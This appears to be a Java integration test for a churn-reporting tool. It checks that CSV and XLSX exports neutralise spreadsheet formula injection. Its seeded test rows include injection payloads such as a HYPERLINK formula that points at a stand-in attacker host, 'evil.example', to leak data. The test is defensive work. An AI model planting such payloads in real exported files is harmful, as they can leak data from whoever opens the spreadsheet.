package io.churnreport.report;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.zip.ZipFile;

import javax.sql.DataSource;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.context.annotation.AnnotationConfigApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;

import io.churnreport.breakdown.BreakdownCsvFiles;
import io.churnreport.month.ReportingMonth;
import io.churnreport.support.TestPostgres;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Source text that a spreadsheet would run as a formula (a billing segment or plan, a reason's
 * label from the classifier) reaches the CSV files quoted so that it stays text, while numbers,
 * negative ones too, stay numbers; in the spreadsheets such text is a text cell, never a formula.
 */
class FormulaTextIntegrationTests {

	private static final ReportingMonth MARCH = ReportingMonth.of("2025-03", ZoneOffset.UTC);

	private static DataSource dataSource;

	private static JdbcClient reporting;

	/** The files as the application declares them, by name. */
	private static Map<String, CsvFile> files;

	@TempDir
	Path out;

	@BeforeAll
	static void martRows() {
		try (AnnotationConfigApplicationContext declared = new AnnotationConfigApplicationContext(MonthlyCsvFiles.class,
				BreakdownCsvFiles.class)) {
			files = declared.getBeansOfType(CsvFile.class)
				.values()
				.stream()
				.collect(Collectors.toMap(CsvFile::fileName, file -> file));
		}
		dataSource = TestPostgres.migratedReportingDatabase("formula_text");
		reporting = JdbcClient.create(dataSource);
		reporting.sql("""
				INSERT INTO mart.churn_by_segment (month, dimension, value, customers_start, customers_churned, churn_rate,
				    mrr_start, mrr_churned, churned_managed, churned_unmanaged, churned_unclassified, churned_no_reason)
				VALUES
				 ('2025-03-01', 'segment', '=HYPERLINK("http://evil.example/?leak","Click")', 2, 1, 0.5, 40.00, 20.00, 1, 0, 0, 0),
				 ('2025-03-01', 'segment', 'a=b', 1, 0, 0, 10.00, 0.00, 0, 0, 0, 0),
				 ('2025-03-01', 'region', '@SUM(1+1)', 1, 0, 0, 10.00, 0.00, 0, 0, 0, 0),
				 ('2025-03-01', 'region', E'\\tnorth', 1, 0, 0, 10.00, 0.00, 0, 0, 0, 0),
				 ('2025-03-01', 'plan', '+cmd', 1, 0, 0, 10.00, 0.00, 0, 0, 0, 0),
				 ('2025-03-01', 'plan', '-2+3', 1, 0, 0, 10.00, 0.00, 0, 0, 0, 0);
				INSERT INTO mart.churn_by_reason (month, reason_class, category, reason_code, reason_label, customers, mrr_lost)
				VALUES ('2025-03-01', 'managed', '@price', 'price_too_high', E'\\r=1+1', 1, 20.00);
				INSERT INTO mart.monthly_metric (month, metric, value) VALUES
				 ('2025-03-01', 'mrr_fx', -12.50),
				 ('2025-03-01', 'churn_rate_variance', -0.012500);
				""").update();
	}

	@Test
	void csvCellsStartingLikeAFormulaAreQuotedAndNumbersStayAsTheyAre() throws IOException {
		new MonthlyCsvWriter(dataSource, List.of(files.get("churn-by-segment.csv"), files.get("churn-by-reason.csv"),
				files.get("summary.csv")), CustomerIds.inFull())
			.write(MARCH, out);

		// each text value starting with = + - @ tab or CR gets a leading ': a spreadsheet shows it as text;
		// 'a=b' (no formula start) and every number, -12.50 and -0.012500 too, are written as they are;
		// a value holding double quotes or a CR is also enclosed in double quotes, as CSV has it
		assertThat(Files.readString(out.resolve("churn-by-segment.csv"))).isEqualTo("""
				dimension,value,customers_start,customers_churned,churn_rate,mrr_start,mrr_churned,mrr_churn_rate,\
				churned_managed,churned_unmanaged,churned_unclassified,churned_no_reason
				segment,"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",2,1,0.500000,40.00,20.00,0.500000,1,0,0,0
				segment,a=b,1,0,0.000000,10.00,0.00,0.000000,0,0,0,0
				region,'\tnorth,1,0,0.000000,10.00,0.00,0.000000,0,0,0,0
				region,'@SUM(1+1),1,0,0.000000,10.00,0.00,0.000000,0,0,0,0
				plan,'+cmd,1,0,0.000000,10.00,0.00,0.000000,0,0,0,0
				plan,'-2+3,1,0,0.000000,10.00,0.00,0.000000,0,0,0,0
				""");
		assertThat(Files.readString(out.resolve("churn-by-reason.csv"))).isEqualTo("""
				reason_class,category,reason_code,reason_label,customers,mrr_lost
				managed,'@price,price_too_high,"'\r=1+1",1,20.00
				""");
		assertThat(Files.readString(out.resolve("summary.csv"))).contains("\nmrr_fx,-12.50\n",
				"\nchurn_rate_variance,-0.012500\n");
	}

	@Test
	void spreadsheetCellsOfSuchTextAreTextNotFormulas() throws IOException {
		MonthlyDatasets datasets = new MonthlyDatasets(dataSource, List.of(files.get("churn-by-segment.csv")),
				CustomerIds.inFull());
		new MonthlySpreadsheetWriter(datasets, List.of(new SpreadsheetFile("segments.xlsx", List.of("churn-by-segment.csv"))))
			.write(MARCH, out);

		Path workbook = out.resolve("segments.xlsx");
		try (ReadableWorkbook read = new ReadableWorkbook(workbook.toFile())) {
			List<Row> rows = read.getFirstSheet().read();
			Map<String, CellType> valueCells = rows.stream()
				.skip(1)
				.collect(Collectors.toMap(row -> row.getCell(1).getRawValue(), row -> row.getCell(1).getType()));
			// the text is kept as it is (no quote added: a text cell is never evaluated), as a text cell
			assertThat(valueCells).containsEntry("=HYPERLINK(\"http://evil.example/?leak\",\"Click\")", CellType.STRING)
				.containsEntry("@SUM(1+1)", CellType.STRING)
				.containsEntry("+cmd", CellType.STRING)
				.containsEntry("-2+3", CellType.STRING);
			assertThat(rows.get(1).getCell(5).getType()).as("mrr_start").isEqualTo(CellType.NUMBER);
		}
		try (ZipFile zip = new ZipFile(workbook.toFile())) {
			String sheet = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes());
			assertThat(sheet).as("no formula in the sheet").doesNotContain("<f>").doesNotContain("<f ");
		}
	}

}
